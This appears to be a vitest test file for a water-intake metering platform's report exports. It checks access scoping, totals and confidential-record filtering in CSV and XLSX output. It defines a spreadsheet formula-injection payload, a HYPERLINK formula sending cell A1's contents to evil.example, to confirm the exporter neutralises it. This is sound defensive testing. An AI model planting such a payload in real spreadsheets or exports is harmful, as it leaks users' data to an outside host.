/** Annex 2 and Annex 3 as JSON, CSV and XLSX: scoped, totals equal, formulas neutralised. */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { withActor } from '../../platform/db/database.ts';
import { localDayStart } from '../../platform/local-time.ts';
import { useTestDatabase } from '../../test/database.ts';
import { registerMeters } from '../../test/fixtures/registry.ts';
import { transitionAs } from '../ledger/index.ts';
import { finding, makeConfidential, principal, raise } from '../ledger/testing/fixtures.ts';
import { buildRectificationTable, buildRegistrationSummary } from './campaign-tables.ts';
import { rectificationTableExport, registrationSummaryTable } from './export/campaign-exports.ts';
import { neutralise, sheetOf, toCsv, toXlsx } from './export/tabular.ts';
import { generateMonthlyReports } from './generate-monthly-reports.ts';
import { getMonthlyReport } from './monthly-narrative.ts';

const testDb = useTestDatabase();
const city = principal('city', '220100');
const cityCleared = principal('city-cleared', '220100', 'staff', true);
const county = principal('county', '220102');
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

async function readXlsx(buffer: Buffer): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  if (!ws) throw new Error('no worksheet');
  return ws;
}
const rowValues = (ws: ExcelJS.Worksheet, n: number): unknown[] => (ws.getRow(n).values as unknown[]).slice(1);

describe('campaign tables', () => {
  it('builds Annex 2 by county, scoped, and exports it with the same totals and inert formulas', async () => {
    const db = testDb.db;
    const a = await registerMeters(db, { count: 3, prefix: 'CA', countyCode: '220102' });
    const b = await registerMeters(db, { count: 2, prefix: 'CB', countyCode: '220103', waterUse: 'agricultural' });
    const [secret] = await registerMeters(db, { count: 1, prefix: 'CS', countyCode: '220102' });
    await makeConfidential(db, secret?.intakeId ?? '');
    await withActor(db, 'test', async (trx) => {
      await trx
        .updateTable('intakes')
        .set({ name: EVIL })
        .where('id', '=', b[0]?.intakeId ?? '')
        .execute();
      await trx
        .insertInto('permits')
        .values({
          permit_number: '取水(吉)字[2024]第001号',
          intake_id: a[0]?.intakeId ?? '',
          issuing_level: 'county',
          valid_from: '2024-01-01',
          valid_to: '2028-12-31',
          annual_volume_m3: 100000,
        })
        .execute();
      await trx
        .updateTable('meters')
        .set({ reading_mode: 'manual' })
        .where('intake_id', '=', a[1]?.intakeId ?? '')
        .execute();
    });

    const summary = await buildRegistrationSummary(db, city, { asOf: '2026-06-01' });
    expect(summary.rows.map((r) => [r.countyCode, r.intakes])).toEqual([
      ['220102', 3],
      ['220103', 2],
    ]);
    expect(summary.totals).toMatchObject({
      intakes: 5,
      byPermit: { valid: 1, none: 4 },
      byMetering: { online: 4, manual: 1 },
      byWaterUse: { industrial: 3, agricultural: 2 },
    });
    expect((await buildRegistrationSummary(db, cityCleared, { asOf: '2026-06-01' })).totals.intakes).toBe(6);
    expect((await buildRegistrationSummary(db, county, { asOf: '2026-06-01' })).totals.intakes).toBe(3);
    expect((await buildRegistrationSummary(db, county, { division: '220103' })).rows).toEqual([]);

    const table = registrationSummaryTable(summary);
    const csv = toCsv(table).toString('utf8');
    expect(csv.startsWith('\uFEFF市（州）,县（市、区）,行政区划代码,取水口总数,水源类型-河流')).toBe(true);
    const lines = csv.trim().split('\r\n');
    expect(lines.at(-1)?.split(',').slice(0, 4)).toEqual(['合计', '', '', '5']);

    const ws = await readXlsx(await toXlsx([sheetOf(table)]));
    expect(rowValues(ws, 1).slice(0, 4)).toEqual(['市（州）', '县（市、区）', '行政区划代码', '取水口总数']);
    const footer = rowValues(ws, ws.rowCount);
    expect(footer[0]).toBe('合计');
    const headers = rowValues(ws, 1) as string[];
    expect(footer[headers.indexOf('取水许可-已发证')]).toBe(summary.totals.byPermit.valid);
    expect(footer[headers.indexOf('计量状况-人工计量')]).toBe(summary.totals.byMetering.manual);
    // Each county's numbers add up to the totals, in the file as in the JSON.
    for (let col = 3; col < headers.length; col++) {
      let sum = 0;
      for (let r = 2; r < ws.rowCount; r++) sum += Number(rowValues(ws, r)[col]);
      expect(sum).toBe(footer[col]);
    }
  });

  it('builds Annex 3 with problem, plan, status and closed-on date, neutralising formulas in every export', async () => {
    const db = testDb.db;
    const [m] = await registerMeters(db, { count: 1, prefix: 'CR', countyCode: '220104' });
    await withActor(db, 'test', (trx) =>
      trx
        .updateTable('intakes')
        .set({ name: EVIL })
        .where('id', '=', m?.intakeId ?? '')
        .execute(),
    );
    const c4 = principal('c4', '220104');
    const id = await raise(db, finding(m?.intakeId ?? null, { countyCode: '220104' }), new Date(localDayStart('2026-05-01')));
    await transitionAs(db, c4, id, { action: 'confirm' });
    await transitionAs(db, c4, id, {
      action: 'startRectifying',
      measures: '-更换流量计',
      responsibleUnit: '+某单位',
      responsiblePerson: '@张三',
      deadline: '2026-06-30',
    });
    await transitionAs(db, c4, id, { action: 'markRectified', evidence: 'ok' });
    await transitionAs(db, city, id, { action: 'close' });
    const dismissed = await raise(db, finding(m?.intakeId ?? null, { countyCode: '220104', rule: 'clock-drift' }));
    await transitionAs(db, c4, dismissed, { action: 'dismiss', reason: '误报' });

    const t = await buildRectificationTable(db, city, { division: '220104' });
    expect(t.rows).toHaveLength(1);
    expect(t.rows[0]).toMatchObject({
      seq: 1,
      itemId: id,
      intakeName: EVIL,
      measures: '-更换流量计',
      status: 'closed',
      deadline: '2026-06-30',
    });
    expect(t.rows[0]?.problem).toMatch(/^计量设施长时间无数据|：/);
    expect(t.rows[0]?.closedOn).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(t.totals).toEqual({ items: 1, byStatus: { closed: 1 } });

    const table = rectificationTableExport(t);
    const csv = toCsv(table).toString('utf8');
    expect(csv).toContain(`"'${EVIL.replace(/"/g, '""')}"`);
    expect(csv).toContain(",'-更换流量计,'+某单位,'@张三,");
    const ws = await readXlsx(await toXlsx([sheetOf(table)]));
    expect(rowValues(ws, 1)).toEqual([
      '序号',
      '县（市、区）',
      '取水口编码',
      '取水口名称',
      '存在问题',
      '整改措施',
      '责任单位',
      '责任人',
      '整改时限',
      '整改状态',
      '销号日期',
      '台账编号',
    ]);
    const row = rowValues(ws, 2);
    expect(row[3]).toBe(`'${EVIL}`);
    expect(row[9]).toBe('已销号');
    ws.eachRow((r) => {
      r.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
    });
    expect(rowValues(ws, ws.rowCount).slice(0, 2)).toEqual(['合计', '1 项']);
  });

  it('neutralises =, +, -, @, tab and carriage return, and leaves numbers and other text alone', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutralise(s)).toBe(`'${s}`);
    expect(neutralise(-5)).toBe(-5);
    expect(neutralise('南关区')).toBe('南关区');
    expect(neutralise(null)).toBeNull();
  });

  it('keeps monthly figures without confidential intakes for readers without the clearance', async () => {
    const db = testDb.db;
    const [x, y] = await registerMeters(db, { count: 2, prefix: 'CM', countyCode: '220105' });
    await makeConfidential(db, y?.intakeId ?? '');
    await raise(db, finding(x?.intakeId ?? null, { countyCode: '220105' }), new Date(localDayStart('2026-04-10')));
    await raise(db, finding(y?.intakeId ?? null, { countyCode: '220105' }), new Date(localDayStart('2026-04-11')));
    await generateMonthlyReports(db, '2026-04', new Date(localDayStart('2026-05-01')));
    const key = { month: '2026-04', divisionCode: '220105' };
    const open = await getMonthlyReport(db, principal('c5', '220105'), key);
    const all = await getMonthlyReport(db, principal('c5x', '220105', 'staff', true), key);
    expect(open?.figures.ledger.itemsRaised).toBe(1);
    expect(open?.confidentialIncluded).toBe(false);
    expect(all?.figures.ledger.itemsRaised).toBe(2);
    expect(await getMonthlyReport(db, principal('far', '220200'), key)).toBeUndefined();
  });
});
